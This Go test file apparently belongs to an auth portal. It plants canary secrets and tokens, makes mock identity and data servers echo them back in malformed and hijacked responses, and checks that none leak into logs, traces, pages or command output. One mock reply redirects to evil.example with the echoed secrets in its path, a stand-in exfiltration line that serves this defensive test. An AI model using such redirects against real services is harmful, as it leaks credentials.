package main

import (
	"bytes"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"html"
	"io"
	"maps"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"regexp"
	"slices"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"portico/internal/testserver"
)

// tape keeps what a browser gets from the portal.
type tape struct {
	next http.RoundTripper
	mu   *sync.Mutex
	got  map[string]string // what it is → text
}

func (t *tape) RoundTrip(r *http.Request) (*http.Response, error) {
	resp, err := t.next.RoundTrip(r)
	if err != nil || r.URL.Scheme != "https" {
		return resp, err
	}
	body, err := io.ReadAll(resp.Body)
	_ = resp.Body.Close()
	if err != nil {
		return nil, err
	}
	resp.Body = io.NopCloser(bytes.NewReader(body))
	t.mu.Lock()
	defer t.mu.Unlock()
	what := fmt.Sprintf("%s %s (%d)", r.Method, r.URL.Path, len(t.got))
	t.got["page "+what] = string(body)
	headers := resp.Header.Clone()
	place := headers.Get("Location")
	headers.Del("Location")
	headers.Del("Set-Cookie") // what is in cookies is sealed, or is the cookie itself
	t.got["headers of "+what] = fmt.Sprint(headers)
	if u, err := url.Parse(place); err == nil && u.Host != "" { // state, nonce and challenge go to the identity server
		q := u.Query()
		q.Del("state")
		q.Del("nonce")
		q.Del("request_uri")
		u.RawQuery = q.Encode()
		place = u.String()
	}
	t.got["place of "+what] = place
	return resp, nil
}

// codings are the forms in which a secret could leak: as it is, without its ends, and as the usual coders write it.
func codings(secret string) map[string]string {
	middle := secret
	if len(secret) > 48 {
		middle = secret[len(secret)-40 : len(secret)-8] // of a JWT, the signature
	}
	forms := map[string]string{"": secret, "a part of ": middle, "hex of ": hex.EncodeToString([]byte(middle)), "URL form of ": url.QueryEscape(secret), "HTML form of ": html.EscapeString(secret), "quoted ": strings.Trim(fmt.Sprintf("%q", secret), `"`)}
	for shift := range 3 { // a coder that began one or two bytes earlier
		b := base64.StdEncoding.EncodeToString([]byte(middle[shift:]))
		forms[fmt.Sprint("base64 of ", shift, " ")] = b[:len(b)-4]
		b = base64.URLEncoding.EncodeToString([]byte(middle[shift:]))
		forms[fmt.Sprint("base64url of ", shift, " ")] = b[:len(b)-4]
	}
	return forms
}

// look reports every planted secret in a text.
func look(t *testing.T, where, text string, planted map[string]string) {
	t.Helper()
	for what, secret := range planted {
		if len(secret) < 12 {
			continue
		}
		for form, coded := range codings(secret) {
			if i := strings.Index(text, coded); i >= 0 {
				t.Errorf("%s holds the %s%s: …%.200q", where, form, what, text[max(0, i-80):])
				break
			}
		}
	}
}

// A whole visit with everything that can go wrong in it, at the noisiest level of the log, while identity server and Data Hub repeat in their failures whatever they were sent. Nothing
// that grants access is found in the log, metrics, pages, headers, files and the output of commands.
func TestS90CanariesAreFoundNowhere(t *testing.T) {
	t.Parallel()
	admin := "127.0.0.1:" + testserver.FreePort(t)
	var traces strings.Builder
	var tracing sync.Mutex
	collector := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		tracing.Lock()
		defer tracing.Unlock()
		traces.Write(b)
	}))
	t.Cleanup(collector.Close)
	s := besiege(t, 1, "PORTICO_LOG_LEVEL=debug", "PORTICO_ADMIN_LISTEN="+admin, "PORTICO_LOGOUT_HINT=false", "OTEL_EXPORTER_OTLP_ENDPOINT="+collector.URL, "OTEL_BSP_SCHEDULE_DELAY=200")
	tapes := map[string]string{}
	var mu sync.Mutex
	cookies := map[string]string{}
	visit := func() *person {
		p := s.visitor(t, -1)
		p.HTTP.Transport = &tape{next: p.HTTP.Transport, mu: &mu, got: tapes}
		return p
	}
	keep := func(p *person) {
		mu.Lock()
		defer mu.Unlock()
		for name, value := range p.Cookies() {
			if !strings.HasSuffix(name, "-prefs") {
				cookies["cookie "+name+" "+value[:min(8, len(value))]] = value
			}
		}
	}
	short := func(_ http.ResponseWriter, _ *http.Request, answer map[string]any) bool {
		answer["expires_in"] = 1
		return false
	}
	in := func() *person {
		s.op.set(func() { s.op.token, s.op.hook = short, nil })
		p := visit()
		callback := p.toCallback("/sites?q=gent")
		keep(p)
		p.get(callback).want(t, http.StatusSeeOther)
		keep(p)
		p.get("/auth/session").want(t, http.StatusOK)
		return p
	}

	// A good visit, with a refresh.
	p := in()
	time.Sleep(1100 * time.Millisecond)
	for _, path := range []string{"/sites", "/overview", "/sites/204481", "/auth/session", "/settings/sessions", "/nothing", "/explore?from=x"} {
		p.get(path)
	}
	p.get("/auth/callback?code=" + url.QueryEscape(plantedAs(s, "code")) + "&state=" + url.QueryEscape(plantedAs(s, "state")))

	// Refreshes that fail, each in its way, repeating what was sent.
	for _, say := range echoes {
		p := in()
		s.op.set(func() {
			s.op.token = nil
			s.op.hook = func(w http.ResponseWriter, r *http.Request) bool {
				return r.URL.Path == "/connect/token" && say(w, r, r.Form.Encode()+" "+r.Header.Get("Authorization")+" "+r.Form.Get("refresh_token"))
			}
		})
		time.Sleep(1100 * time.Millisecond)
		p.get("/sites")
		p.ask(http.MethodGet, "/sites", "", "Accept", "application/json")
		keep(p)
	}
	// The same at the exchange of the code, at userinfo, and at the discovery and the keys.
	for _, path := range []string{"/connect/token", "/userinfo", "/jwks", "/.well-known/openid-configuration"} {
		for _, say := range echoes {
			s.op.set(func() { s.op.token, s.op.hook = short, nil })
			p := visit()
			callback := p.toCallback("/sites")
			keep(p)
			s.op.set(func() {
				s.op.hook = func(w http.ResponseWriter, r *http.Request) bool {
					return r.URL.Path == path && say(w, r, r.Form.Encode()+" "+r.Header.Get("Authorization")+" "+r.Form.Get("code"))
				}
			})
			p.get(callback)
			keep(p)
		}
	}
	// Requests that are pushed, at an endpoint that repeats them, and at one that works.
	s.op.set(func() { s.op.metadata["pushed_authorization_request_endpoint"] = s.op.url + "/par" })
	for _, say := range echoes {
		s.op.set(func() {
			s.op.hook = func(w http.ResponseWriter, r *http.Request) bool {
				return r.URL.Path == "/par" && say(w, r, r.Form.Encode()+" "+r.Header.Get("Authorization")+" "+r.Form.Get("state"))
			}
		})
		p := visit()
		p.get("/auth/login")
		keep(p)
	}
	in()
	if len(s.op.requests("/par")) <= len(echoes) {
		t.Error("no request was pushed")
	}
	// A Data Hub that repeats the token.
	for _, say := range echoes {
		p := in()
		s.setHubRaw(func(w http.ResponseWriter, r *http.Request) bool {
			token := strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")
			return say(w, r, token+" "+base64.StdEncoding.EncodeToString([]byte(token))+" "+r.Header.Get("Authorization"))
		})
		p.get("/sites")
		p.get("/sites/204481")
		s.setHubRaw(nil)
	}
	// Sign-outs: with a revocation that repeats the tokens, and by logout tokens, good and bad.
	for _, say := range echoes {
		p := in()
		s.op.set(func() {
			s.op.hook = func(w http.ResponseWriter, r *http.Request) bool {
				return r.URL.Path == "/revoke" && say(w, r, r.Form.Encode()+" "+r.Form.Get("token"))
			}
		})
		p.open(p.post("/auth/logout", nil).Header.Get("Location"))
	}
	logouts := map[string]string{}
	s.op.set(func() { s.op.hook = nil })
	for i, token := range []string{s.op.logoutToken(nil), s.op.logoutToken(func(c map[string]any) { c["aud"] = "another" }), newRogue(t).logoutToken(nil)} {
		logouts[fmt.Sprint("logout token ", i)] = token
		visit().post("/auth/backchannel-logout", url.Values{"logout_token": {token}})
	}
	// The operator's side.
	_, metrics := fetch(t, "http://"+admin+"/metrics")
	_, ready := fetch(t, "http://"+admin+"/readyz")
	outputs := map[string]string{"/metrics": metrics, "/readyz": ready}
	for _, c := range [][]string{{"check"}, {"sessions", "list", "--everyone"}, {"keys", "list"}, {"keys", "rotate", "--at-once"}, {"keys", "list"}, {"check", "--database=postgres://portico@127.0.0.1:1/x?connect_timeout=1"}, {"serve", "--keys=/nonexistent"}} {
		cmd := newCommand(c...)
		cmd.Env = append(append(cmd.Env, s.env...), "PORTICO_DATABASE_PASSWORD="+map[bool]string{true: "database-password-canary"}[strings.Contains(strings.Join(c, " "), "postgres")])
		out, _ := cmd.CombinedOutput()
		outputs["web "+strings.Join(c, " ")] = string(out)
	}
	keep(p)
	if err := s.programs[0].stop(syscall.SIGTERM); err != nil {
		t.Errorf("SIGTERM: %v", err)
	}

	planted := map[string]string{"client secret": s.secret, "database password": "database-password-canary"}
	s.op.set(func() { maps.Copy(planted, s.op.planted) })
	maps.Copy(planted, cookies)
	maps.Copy(planted, logouts)
	for _, e := range s.env {
		if file, ok := strings.CutPrefix(e, "PORTICO_KEYS_FILE="); ok {
			text, err := os.ReadFile(file)
			if err != nil {
				t.Fatal(err)
			}
			for i, key := range regexp.MustCompile(`[A-Za-z0-9_-]{43,}`).FindAllString(string(text), -1) {
				planted[fmt.Sprint("sealing key ", i)] = key
			}
		}
	}
	kinds := map[string]bool{}
	for what := range planted {
		kinds[strings.TrimRight(what[:min(len(what), 12)], " 0123456789")] = true
	}
	for _, kind := range []string{"access token", "refresh toke", "ID token eyJ", "client secre", "sealing key", "logout token", "cookie __Hos"} {
		if !kinds[kind] {
			t.Errorf("nothing of the kind %q was planted; kinds %v", kind, slices.Sorted(maps.Keys(kinds)))
		}
	}
	tracing.Lock()
	outputs["traces"] = traces.String()
	tracing.Unlock()
	if len(outputs["traces"]) < 10000 {
		t.Errorf("only %d bytes of traces", len(outputs["traces"]))
	}
	look(t, "the log", s.log(), planted)
	for where, text := range outputs {
		look(t, where, text, planted)
	}
	for where, text := range tapes {
		look(t, where, text, planted)
	}
	for file, text := range s.files(t) {
		look(t, file, text, planted)
	}
	if len(s.log()) < 10000 || len(tapes) < 100 {
		t.Errorf("only %d bytes of log and %d pieces of pages were looked at", len(s.log()), len(tapes))
	}
}

// plantedAs returns a secret of a kind.
func plantedAs(s *siege, kind string) (secret string) {
	s.op.set(func() {
		for what, value := range s.op.planted {
			if strings.HasPrefix(what, kind+" ") {
				secret = value
			}
		}
	})
	return secret
}

// echoes are ways to fail that repeat a text.
var echoes = []func(w http.ResponseWriter, r *http.Request, text string) bool{
	func(w http.ResponseWriter, _ *http.Request, text string) bool {
		w.Header().Set("Content-Type", "application/json")
		w.Header().Set("WWW-Authenticate", `Bearer error_description="`+text+`"`)
		w.WriteHeader(http.StatusInternalServerError)
		_, _ = fmt.Fprintf(w, `{"error":%q,"error_description":%q,"message":%q}`, text, text, text)
		return true
	},
	func(w http.ResponseWriter, _ *http.Request, text string) bool {
		w.Header().Set("Content-Type", "text/html")
		w.WriteHeader(http.StatusBadRequest)
		_, _ = fmt.Fprintf(w, `<html><body>%s</body></html>`, text)
		return true
	},
	func(w http.ResponseWriter, _ *http.Request, text string) bool {
		w.Header().Set("Content-Type", "application/"+regexp.MustCompile(`[^A-Za-z0-9.+-]`).ReplaceAllString(text, "-"))
		_, _ = io.WriteString(w, text)
		return true
	},
	func(w http.ResponseWriter, _ *http.Request, text string) bool { return hijacked(w, text+"\r\n\r\n") },
	func(w http.ResponseWriter, _ *http.Request, text string) bool {
		return hijacked(w, "HTTP/1.1 200 OK\r\n"+text+"\r\n\r\n")
	},
	func(w http.ResponseWriter, _ *http.Request, text string) bool {
		return hijacked(w, "HTTP/1.1 302 Found\r\nLocation: https://evil.example/"+url.PathEscape(text)+"\r\nContent-Length: 0\r\n\r\n")
	},
	func(w http.ResponseWriter, _ *http.Request, text string) bool {
		return hijacked(w, "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"+text+"\r\n")
	},
}

func hijacked(w http.ResponseWriter, answer string) bool {
	c, _, err := http.NewResponseController(w).Hijack()
	if err != nil {
		return false
	}
	_, _ = io.WriteString(c, answer)
	_ = c.Close()
	return true
}
